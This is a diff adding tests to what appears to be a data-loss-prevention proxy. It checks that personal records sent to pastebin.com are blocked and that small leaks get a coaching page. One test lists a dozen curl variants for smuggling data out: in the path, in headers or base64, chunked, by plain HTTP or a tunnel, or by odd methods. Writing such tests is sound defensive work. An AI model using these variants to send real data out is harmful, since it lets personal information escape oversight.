@@ -100,6 +100,47 @@ t.test('owners on their way out', async (t) => {
     });
   }
 
+  await t.test('are found wherever a request can carry them, by whatever way it comes', async (t) => {
+    const host = 'pastebin.com';
+    const lines = leakText(people.slice(0, 5));
+    const list = ['--data-binary', '@-'];
+    const ways: Record<string, readonly string[]> = {
+      'in the path': [`https://${host}/p/${encodeURIComponent(lines)}`],
+      'in a header, as UTF-8': [`https://${host}/`, '-H', `X-Note: ${lines.replaceAll('\n', ' | ')}`],
+      'in a header, as base64': [`https://${host}/`, '-H', `X-Note: ${Buffer.from(lines).toString('base64')}`],
+      'in the Referer': [`https://${host}/`, '-H', `Referer: https://${host}/?q=${encodeURIComponent(lines)}`],
+      'chunked, with a length nobody tells': [`https://${host}/`, '-T', '-', '-X', 'POST', '-H', 'Expect:'],
+      'after a 100 Continue': [`https://${host}/`, ...list, '-H', 'Expect: 100-continue'],
+      'from a client of HTTP/1.0': [`https://${host}/`, ...list, '--http1.0'],
+      'by plain HTTP': [`http://${host}/`, ...list],
+      'by plain HTTP in a tunnel': [`http://${host}/`, ...list, '--proxytunnel'],
+      'by a method of their own': [`https://${host}/`, ...list, '-X', 'PROPPATCH'],
+      'in the body of a GET': [`https://${host}/`, ...list, '-X', 'GET'],
+      'in the body of a DELETE': [`https://${host}/`, ...list, '-X', 'DELETE'],
+    };
+    for (const [way, args] of Object.entries(ways)) {
+      const input = args.includes('@-') || args.includes('-T') ? lines : '';
+      const answer = await curl(args, { proxyPort: agent.port, caFile: agent.caFile, input });
+      t.match(answer, { status: 403, headers: { 'x-menshen-verdict': /^block; rule=bulk-owners/ } }, way);
+      t.match(agent.incidents()[0], { host, records: { owner: 5 } });
+    }
+    t.equal(originOf(host).decryptedBytes, 0);
+  });
+
+  await t.test('a few of them: a script is told where the person may say why', async (t) => {
+    const answer = await send(
+      agent,
+      { host: 'tieba.baidu.com', channel: 'tieba', headers: ['Accept-Language: en'] },
+      { name: '', owners: 2, path: '/', body: leakText(people.slice(0, 2)), headers: [] },
+    );
+    t.same(verdictOf(answer)?.slice(1, 3), ['coach', 'few-owners']);
+    const problem = JSON.parse(answer.body);
+    t.equal(problem.type, 'urn:menshen:coach');
+    t.equal(problem.retry, `http://127.0.0.1:${agent.port}/coach/${problem.incident}`);
+    t.match(await curl([problem.retry]), { status: 200, body: /<form method="post"/ });
+    t.equal(originOf('tieba.baidu.com').decryptedBytes, 0);
+  });
+
   await t.test('leave no phone and no name in answers, incidents, log or data directory', async (t) => {
     t.equal(answers.length, PLACES.length * 8 * 3, 'everything said was kept for this');
     t.same(readable(answers.join('\n'), people), []);
